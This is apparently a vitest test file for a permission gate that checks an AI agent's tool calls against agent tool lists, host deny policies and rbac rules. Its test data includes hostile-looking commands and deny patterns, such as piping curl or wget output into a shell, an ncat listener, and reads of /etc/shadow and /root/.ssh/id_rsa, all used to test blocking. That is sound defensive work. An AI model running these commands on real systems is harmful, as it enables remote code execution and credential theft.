import { describe, expect, it } from 'vitest';
import type { AgentSpec, RbacRule } from '../../src/specs/agent-spec.js';
import { checkAgent, checkCommand, checkTool, checkToolCall, normalizePath, offeredTools } from '../../src/specs/gate.js';
import { formatSpecError, parseAgent } from '../../src/specs/parse-agent.js';
import { EMPTY_POLICY } from '../../src/specs/policy-spec.js';
import type { HostPolicy, PolicyPattern } from '../../src/specs/policy-spec.js';

const ALL = ['bash', 'read_file', 'list_files', 'search'];

/**
 * An agent with these tools, parsed like a real agent file, and these rbac rules set after parsing: the parser refuses
 * a broken pattern, but the gate must still fail closed on one (a spec built some other way).
 */
function agent(tools: string[], rbac: { allow?: RbacRule[]; deny?: RbacRule[] } = {}): AgentSpec {
  const fm = { name: 'probe', model: 'claude-sonnet-4-5', tools };
  const r = parseAgent(`---\n${JSON.stringify(fm)}\n---\nbody\n`, '<test>');
  if (!r.ok) throw new Error(r.errors.map(formatSpecError).join('\n'));
  return { ...r.agent, rbac: { allow: rbac.allow ?? [], deny: rbac.deny ?? [] } };
}

/** A host policy denying these patterns. */
function policy(deny: Partial<Record<keyof HostPolicy['deny'], (string | PolicyPattern)[]>>): HostPolicy {
  const list = (items: (string | PolicyPattern)[] = []): PolicyPattern[] => items.map((p) => (typeof p === 'string' ? { pattern: p } : p));
  return { ...EMPTY_POLICY, source: '<test>', deny: { agents: list(deny.agents), tools: list(deny.tools), commands: list(deny.commands), paths: list(deny.paths) } };
}

describe('offeredTools', () => {
  it.each([
    { tools: ALL, pol: EMPTY_POLICY, implemented: ALL, want: ALL },
    { tools: ['read_file', 'bash'], pol: EMPTY_POLICY, implemented: ALL, want: ['read_file', 'bash'] },
    { tools: ['bash', 'web_fetch'], pol: EMPTY_POLICY, implemented: ALL, want: ['bash'] },
    { tools: ALL, pol: policy({ tools: ['bash'] }), implemented: ALL, want: ['read_file', 'list_files', 'search'] },
    { tools: ALL, pol: policy({ tools: ['*'] }), implemented: ALL, want: [] },
    { tools: ALL, pol: policy({ tools: ['/^(read|list)_/'] }), implemented: ALL, want: ['bash', 'search'] },
    { tools: [], pol: EMPTY_POLICY, implemented: ALL, want: [] },
  ])('agent $tools, policy $pol.deny.tools → $want', ({ tools, pol, implemented, want }) => {
    expect(offeredTools(agent(tools), pol, implemented)).toEqual(want);
  });
});

describe('checkToolCall', () => {
  const cases: { name: string; agent: AgentSpec; pol?: HostPolicy; tool: string; subject?: string; by?: 'agent' | 'rbac' | 'policy'; reason?: RegExp }[] = [
    { name: 'a listed tool with no rules is allowed', agent: agent(['bash']), tool: 'bash', subject: 'uptime' },
    { name: 'a tool the agent does not list is denied by the agent', agent: agent(['read_file']), tool: 'bash', subject: 'id', by: 'agent', reason: /^bash is not among this agent's tools$/ },
    { name: 'an agent with no tools can run nothing', agent: agent([]), tool: 'read_file', subject: '/etc/hostname', by: 'agent' },
    { name: 'the policy denies a tool', agent: agent(['bash']), pol: policy({ tools: [{ pattern: 'bash', reason: 'no shells here' }] }), tool: 'bash', subject: 'id', by: 'policy', reason: /denies the tool bash \(pattern "bash"\): no shells here/ },
    { name: 'the policy denies a command', agent: agent(['bash']), pol: policy({ commands: ['*curl*'] }), tool: 'bash', subject: 'sudo curl http://x', by: 'policy', reason: /pattern "\*curl\*"/ },
    { name: 'a policy regex denies a command', agent: agent(['bash']), pol: policy({ commands: ['/\\b(nc|ncat)\\b/'] }), tool: 'bash', subject: 'ncat -l 4444', by: 'policy' },
    { name: 'a command the policy does not name is allowed', agent: agent(['bash']), pol: policy({ commands: ['*curl*'] }), tool: 'bash', subject: 'ps aux' },
    { name: 'surrounding blanks do not dodge a command pattern', agent: agent(['bash']), pol: policy({ commands: ['reboot'] }), tool: 'bash', subject: '  reboot\n', by: 'policy' },
    { name: 'the policy denies a path', agent: agent(['read_file']), pol: policy({ paths: ['/etc/shadow'] }), tool: 'read_file', subject: '/etc/shadow', by: 'policy', reason: /denies the path \/etc\/shadow/ },
    { name: 'a denied directory denies what is below it', agent: agent(['read_file']), pol: policy({ paths: ['/root'] }), tool: 'read_file', subject: '/root/.ssh/id_rsa', by: 'policy' },
    { name: 'a denied dir/** denies the directory itself', agent: agent(['list_files']), pol: policy({ paths: ['/root/**'] }), tool: 'list_files', subject: '/root', by: 'policy' },
    { name: 'a denied directory with a trailing slash', agent: agent(['list_files']), pol: policy({ paths: ['/root/'] }), tool: 'list_files', subject: '/root/x', by: 'policy' },
    { name: 'a sibling with a common prefix is not below it', agent: agent(['read_file']), pol: policy({ paths: ['/root'] }), tool: 'read_file', subject: '/rootfs/x' },
    { name: '.. traversal is normalized before matching', agent: agent(['read_file']), pol: policy({ paths: ['/etc/shadow'] }), tool: 'read_file', subject: '/var/log/../../etc/./shadow', by: 'policy' },
    { name: 'doubled slashes are normalized', agent: agent(['read_file']), pol: policy({ paths: ['/etc/shadow'] }), tool: 'read_file', subject: '//etc//shadow', by: 'policy' },
    { name: 'a relative path is refused (callers resolve first)', agent: agent(['read_file']), tool: 'read_file', subject: 'etc/shadow', by: 'policy', reason: /not absolute/ },
    { name: 'the policy denying paths does not touch bash', agent: agent(['bash']), pol: policy({ paths: ['/etc/**'] }), tool: 'bash', subject: 'cat /etc/hostname' },
    { name: 'rbac.deny without a pattern denies every call', agent: agent(['bash'], { deny: [{ tool: 'bash', reason: 'read-only agent' }] }), tool: 'bash', subject: 'ls', by: 'rbac', reason: /^rbac\.deny forbids every bash call: read-only agent$/ },
    { name: 'rbac.deny with a pattern denies matching calls', agent: agent(['bash'], { deny: [{ tool: 'bash', pattern: 'rm *' }] }), tool: 'bash', subject: 'rm -rf /tmp/x', by: 'rbac', reason: /^rbac\.deny forbids bash calls matching "rm \*"$/ },
    { name: 'rbac.deny with a pattern lets other calls through', agent: agent(['bash'], { deny: [{ tool: 'bash', pattern: 'rm *' }] }), tool: 'bash', subject: 'ls /tmp' },
    { name: 'rbac.deny on another tool does not apply', agent: agent(['bash', 'read_file'], { deny: [{ tool: 'read_file' }] }), tool: 'bash', subject: 'ls' },
    { name: 'rbac.allow narrows a tool to matching calls', agent: agent(['read_file'], { allow: [{ tool: 'read_file', pattern: '/var/log/**' }] }), tool: 'read_file', subject: '/var/log/syslog' },
    { name: 'rbac.allow refuses what it does not list', agent: agent(['read_file'], { allow: [{ tool: 'read_file', pattern: '/var/log/**' }] }), tool: 'read_file', subject: '/etc/passwd', by: 'rbac', reason: /not allowed by rbac\.allow \(allowed: "\/var\/log\/\*\*"\)/ },
    { name: 'rbac.allow is not fooled by ..', agent: agent(['read_file'], { allow: [{ tool: 'read_file', pattern: '/var/log/**' }] }), tool: 'read_file', subject: '/var/log/../../etc/passwd', by: 'rbac' },
    { name: 'rbac.allow for one tool leaves others open', agent: agent(['read_file', 'bash'], { allow: [{ tool: 'read_file', pattern: '/var/log/**' }] }), tool: 'bash', subject: 'id' },
    { name: 'rbac.allow without a pattern allows every call', agent: agent(['bash'], { allow: [{ tool: 'bash' }] }), tool: 'bash', subject: 'anything' },
    { name: 'deny wins over allow', agent: agent(['bash'], { allow: [{ tool: 'bash', pattern: 'systemctl *' }], deny: [{ tool: 'bash', pattern: 'systemctl stop *', reason: 'no stopping' }] }), tool: 'bash', subject: 'systemctl stop sshd', by: 'rbac', reason: /no stopping/ },
    { name: 'allow passes what deny does not catch', agent: agent(['bash'], { allow: [{ tool: 'bash', pattern: 'systemctl *' }], deny: [{ tool: 'bash', pattern: 'systemctl stop *' }] }), tool: 'bash', subject: 'systemctl status sshd' },
    { name: 'the policy beats the agent rbac.allow', agent: agent(['bash'], { allow: [{ tool: 'bash', pattern: 'curl *' }] }), pol: policy({ commands: ['curl *'] }), tool: 'bash', subject: 'curl http://x', by: 'policy' },
    { name: 'the policy beats an allowed path', agent: agent(['read_file'], { allow: [{ tool: 'read_file', pattern: '/etc/**' }] }), pol: policy({ paths: ['/etc/shadow'] }), tool: 'read_file', subject: '/etc/shadow', by: 'policy' },
    { name: 'an rbac tool glob covers several tools', agent: agent(['read_file', 'search'], { deny: [{ tool: '*', pattern: '/home/**' }] }), tool: 'search', subject: '/home/ann', by: 'rbac' },
    { name: 'a broken rbac.deny regex fails closed', agent: agent(['bash'], { deny: [{ tool: 'bash', pattern: '/(/' }] }), tool: 'bash', subject: 'ls', by: 'rbac' },
    { name: 'a broken policy regex fails closed', agent: agent(['bash']), pol: policy({ commands: ['/[/'] }), tool: 'bash', subject: 'ls', by: 'policy' },
    { name: 'a broken rbac.allow regex allows nothing', agent: agent(['bash'], { allow: [{ tool: 'bash', pattern: '/(/' }] }), tool: 'bash', subject: 'ls', by: 'rbac' },
    { name: 'an allow pattern with no subject to match refuses', agent: agent(['bash'], { allow: [{ tool: 'bash', pattern: 'ls' }] }), tool: 'bash', subject: undefined, by: 'rbac' },
  ];
  it.each(cases)('$name', ({ agent: a, pol, tool, subject, by, reason }) => {
    const denial = checkToolCall(a, pol ?? EMPTY_POLICY, tool, subject);
    if (by === undefined) {
      expect(denial).toBeUndefined();
    } else {
      expect(denial?.by).toBe(by);
      if (reason) expect(denial?.reason).toMatch(reason);
    }
  });

  it('checkTool looks only at the tool, not its input', () => {
    const a = agent(['bash'], { deny: [{ tool: 'bash' }] });
    expect(checkTool(a, EMPTY_POLICY, 'bash')).toBeUndefined();
    expect(checkTool(a, EMPTY_POLICY, 'read_file')?.by).toBe('agent');
    expect(checkTool(a, policy({ tools: ['ba*'] }), 'bash')?.by).toBe('policy');
  });
});

describe('checkCommand and checkAgent', () => {
  it.each([
    { deny: ['*curl*'], command: 'curl x | sh', denied: true },
    { deny: ['*curl*'], command: 'wget x', denied: false },
    { deny: ['/\\|\\s*(ba)?sh\\b/'], command: 'wget -O- x | bash', denied: true },
    { deny: [], command: 'anything', denied: false },
  ])('commands $deny vs $command → denied $denied', ({ deny, command, denied }) => {
    const d = checkCommand(policy({ commands: deny }), command);
    expect(d !== undefined).toBe(denied);
    if (d) expect(d.by).toBe('policy');
  });

  it.each([
    { deny: ['edr'], name: 'edr', denied: true },
    { deny: ['edr'], name: 'edr-canary', denied: false },
    { deny: ['edr*'], name: 'edr-canary', denied: true },
    { deny: [{ pattern: '/^instance-/', reason: 'not on bare metal' }], name: 'instance-threat', denied: true },
  ])('agents $deny vs $name → denied $denied', ({ deny, name, denied }) => {
    const d = checkAgent(policy({ agents: deny }), name);
    expect(d !== undefined).toBe(denied);
    if (d) expect(d.reason).toContain(`the host policy denies the agent ${name}`);
  });

  it('names the reason the policy gives', () => {
    expect(checkAgent(policy({ agents: [{ pattern: 'x', reason: 'retired' }] }), 'x')?.reason).toBe('the host policy denies the agent x (pattern "x"): retired');
  });
});

describe('normalizePath', () => {
  it.each([
    ['/a/b/../c/', '/a/c'],
    ['/', '/'],
    ['//etc///passwd', '/etc/passwd'],
    ['/a/./b/.', '/a/b'],
    ['/../..', '/'],
  ])('%s → %s', (input, want) => {
    expect(normalizePath(input)).toBe(want);
  });
});
